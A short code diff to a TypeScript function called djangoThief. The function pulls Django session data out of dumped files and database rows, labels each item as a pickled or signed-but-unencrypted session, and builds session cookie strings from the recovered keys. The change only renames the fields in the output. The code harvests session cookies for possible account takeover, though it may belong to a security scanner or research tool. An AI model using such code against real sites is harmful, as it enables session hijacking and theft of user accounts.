@@ -16,7 +16,10 @@ export function djangoThief(cookieName: string, dumps: OpenDumps): Thief {
     const dumped = await dumps(loot.files)
     const rows = [...loot.rows, ...dumped]
     const parts = [...loot.files.map(({ bytes }) => bytes), ...rows.map(({ value }) => value)]
-    const texts = [...dumped.map(({ value }) => value), ...parts.flatMap(signedIn)]
+    const texts = [
+      ...dumped.map(({ value }) => ({ name: 'a session, pickled', bytes: value })),
+      ...parts.flatMap(signedIn).map((bytes) => ({ name: 'a session, signed and not encrypted', bytes })),
+    ]
     const keys = new Set([...rows.map(({ key }) => key.slice(-32)), ...loot.files.flatMap(keysIn)])
     return { texts, cookies: [...keys].map((key) => `${cookieName}=${key}`) }
   }
